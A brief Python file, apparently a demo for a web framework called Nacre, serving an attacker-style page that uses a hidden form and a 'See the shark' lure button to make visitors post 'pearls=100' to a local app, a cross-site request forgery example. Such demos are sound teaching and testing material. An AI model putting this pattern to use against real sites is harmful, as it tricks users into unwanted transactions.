"""A page of another site that would have its visitors empty their purse."""

from nacre import HTMLResponse, Nacre

app = Nacre()


@app.get("/")
async def tempt():
    return HTMLResponse(
        '<!doctype html>\n<form method="post" action="http://localhost:5000/">'
        '<input type="hidden" name="pearls" value="100"><button>See the shark</button></form>'
    )


if __name__ == "__main__":
    app.run(port=5001)
